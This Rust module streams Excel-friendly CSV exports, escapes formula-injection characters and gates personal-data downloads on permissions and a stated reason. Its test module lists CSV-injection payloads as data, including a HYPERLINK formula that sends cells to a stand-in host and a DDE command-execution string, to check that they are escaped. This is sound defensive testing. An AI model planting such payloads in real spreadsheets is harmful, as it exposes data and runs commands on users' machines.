//! CSV for Excel: UTF-8 with a BOM, CRLF line ends, JST times, streamed so
//! millions of rows never sit in memory.

use axum::body::{Body, Bytes};
use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};
use chrono::{DateTime, Utc};
use futures::{Stream, StreamExt};

use crate::auth::{Caller, Permission};

pub const BOM: &str = "\u{feff}";

pub fn jst(t: DateTime<Utc>) -> String {
    t.with_timezone(&crate::jst::offset())
        .format("%Y-%m-%d %H:%M:%S")
        .to_string()
}

/// One CSV cell. Text is anything a person or another system wrote (names,
/// titles, login ids, user agents, free text): Excel would run a text that
/// starts like a formula, so the writer neutralises it. Numbers are values
/// this program computed (counts, ids, durations) and stay numbers.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    Number(String),
}

impl Cell {
    pub fn number(n: impl Into<f64> + std::fmt::Display) -> Self {
        Self::Number(n.to_string())
    }

    /// A count or id of ours (i64 has no lossless `Into<f64>`).
    pub fn int(n: i64) -> Self {
        Self::Number(n.to_string())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Self::Text(s)
    }
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Self::Text(s.to_string())
    }
}

/// A row of cells: `csv_row![name, title, Cell::int(3)]` (text unless said otherwise).
#[macro_export]
macro_rules! csv_row {
    ($($cell:expr),* $(,)?) => { vec![$($crate::csv::Cell::from($cell)),*] };
}

/// Characters that make Excel (and LibreOffice, Google Sheets) read a cell as
/// a formula or a DDE command (OWASP "CSV injection"), with their full-width
/// forms, which Japanese input methods produce and Excel also accepts.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// The text as Excel must show it: a cell that would start a formula (after
/// any leading spaces, which Excel skips) gets a leading `'`, so it is shown
/// as the text it is and never evaluated.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    let first = text.trim_start_matches([' ', '\u{3000}']).chars().next();
    if first.is_some_and(|c| FORMULA_STARTS.contains(&c)) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// Records as CSV bytes, CRLF-terminated as Excel expects. Text cells are
/// neutralised, and quoted when neutralised or when they hold a separator,
/// a quote or a line break; numbers are written bare.
pub fn lines(rows: &[Vec<Cell>]) -> Vec<u8> {
    let mut out = Vec::new();
    for r in rows {
        for (i, cell) in r.iter().enumerate() {
            if i > 0 {
                out.push(b',');
            }
            match cell {
                Cell::Number(n) => out.extend_from_slice(n.as_bytes()),
                Cell::Text(t) => {
                    let safe = neutralise(t);
                    let quote = matches!(safe, std::borrow::Cow::Owned(_))
                        || safe.contains([',', '"', '\r', '\n']);
                    if quote {
                        out.push(b'"');
                        out.extend_from_slice(safe.replace('"', "\"\"").as_bytes());
                        out.push(b'"');
                    } else {
                        out.extend_from_slice(safe.as_bytes());
                    }
                }
            }
        }
        out.extend_from_slice(b"\r\n");
    }
    out
}

/// A streamed download: BOM and header row first, then each page of rows.
/// `total` (when known) goes out as `X-Total-Count` so a client can show progress.
pub fn download<S>(file_stem: &str, header_row: &[&str], pages: S, total: Option<u64>) -> Response
where
    S: Stream<Item = anyhow::Result<Vec<Vec<Cell>>>> + Send + 'static,
{
    // Headers can be staff's own words (attribute names): text like any other.
    let header: Vec<Cell> = header_row.iter().map(|h| Cell::from(*h)).collect();
    let head = Bytes::from([BOM.as_bytes(), &lines(&[header])].concat());
    let body = futures::stream::once(async move { Ok::<Bytes, std::io::Error>(head) })
        .chain(pages.map(|page| match page {
            Ok(rows) => Ok(Bytes::from(lines(&rows))),
            Err(e) => {
                tracing::error!(error = %e, "CSV export failed mid-stream");
                Err(std::io::Error::other("export failed"))
            }
        }))
        // The body may be polled once more after its end.
        .fuse();
    let mut res = Body::from_stream(body).into_response();
    let h = res.headers_mut();
    h.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    // Named in JST, as the times inside it are.
    let name = format!(
        "{file_stem}-{}.csv",
        Utc::now()
            .with_timezone(&crate::jst::offset())
            .format("%Y%m%d%H%M%S")
    );
    if let Ok(v) = HeaderValue::from_str(&format!("attachment; filename=\"{name}\"")) {
        h.insert(header::CONTENT_DISPOSITION, v);
    }
    h.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    if let Some(n) = total
        && let Ok(v) = HeaderValue::from_str(&n.to_string())
    {
        h.insert("x-total-count", v);
        h.insert(
            header::ACCESS_CONTROL_EXPOSE_HEADERS,
            HeaderValue::from_static("x-total-count"),
        );
    }
    res
}

/// Why personal data is exported, as the staff member stated it (kept in
/// the audit row): required, at most 200 characters; otherwise the 400 to send.
fn stated_reason(given: Option<&str>) -> Result<String, Box<Response>> {
    let reason = given.map(str::trim).unwrap_or("");
    if reason.is_empty() || reason.chars().count() > 200 {
        return Err(Box::new(
            (
                axum::http::StatusCode::BAD_REQUEST,
                "出力の理由（200文字以内）を入力してください",
            )
                .into_response(),
        ));
    }
    Ok(reason.to_string())
}

/// A personal-data download's gate: the caller holds one of `permissions`
/// and stated a reason; the reason, or the response to send instead.
pub fn authorize_with_reason(
    caller: &Caller,
    permissions: &[Permission],
    reason: Option<&str>,
) -> Result<String, Box<Response>> {
    authorize(caller, permissions)?;
    stated_reason(reason)
}

/// Whether the caller of a request outside GraphQL (downloads, uploads)
/// holds one of `permissions`; otherwise the response to send (401 without
/// a session, 403 without the permission). The router put the caller there.
pub fn authorize(caller: &Caller, permissions: &[Permission]) -> Result<(), Box<Response>> {
    use axum::http::StatusCode;
    if let Err(e) = caller.require_any(permissions) {
        let status = if e.code() == "UNAUTHENTICATED" {
            StatusCode::UNAUTHORIZED
        } else {
            StatusCode::FORBIDDEN
        };
        return Err(Box::new((status, e.to_string()).into_response()));
    }
    Ok(())
}

/// A download's refusal: the first bad-input message as a 400 (staff read
/// it), a missing or forbidden record as 404 / 403, anything else as a 503
/// whose cause goes to the logs only.
pub fn refused(e: crate::error::AppError) -> Response {
    use axum::http::StatusCode;
    match e {
        crate::error::AppError::BadInput(e) => {
            let text = e
                .as_slice()
                .first()
                .map(|e| e.message.clone())
                .unwrap_or_default();
            (StatusCode::BAD_REQUEST, text).into_response()
        }
        crate::error::AppError::NotFound(_) => StatusCode::NOT_FOUND.into_response(),
        crate::error::AppError::Forbidden(m) => (StatusCode::FORBIDDEN, m).into_response(),
        e => {
            let _ = e.to_graphql(); // logs the cause with an error id
            StatusCode::SERVICE_UNAVAILABLE.into_response()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(cell: Cell) -> String {
        String::from_utf8(lines(&[vec![cell]])).unwrap()
    }

    #[test]
    fn text_that_excel_would_run_is_shown_as_text() {
        for evil in [
            "=HYPERLINK(\"https://evil.example/c?\"&B2&C2,\"詳細\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1",
            "\r=1",
            "  =1+1",
            "\u{3000}＝1+1",
            "＠SUM(A1)",
        ] {
            let out = one(Cell::from(evil));
            assert!(out.starts_with("\"'"), "{evil:?} → {out:?}");
            assert!(out.ends_with("\"\r\n"), "{out:?}");
        }
    }

    #[test]
    fn ordinary_text_numbers_and_dates_are_unchanged() {
        assert_eq!(one(Cell::from("埼玉 花子")), "埼玉 花子\r\n");
        assert_eq!(
            one(Cell::from("2026-12-01 09:00:00")),
            "2026-12-01 09:00:00\r\n"
        );
        assert_eq!(one(Cell::from("a,b \"c\"")), "\"a,b \"\"c\"\"\"\r\n");
        assert_eq!(one(Cell::int(-3)), "-3\r\n");
        assert_eq!(one(Cell::number(1.5)), "1.5\r\n");
        assert_eq!(one(Cell::from("")), "\r\n");
    }
}
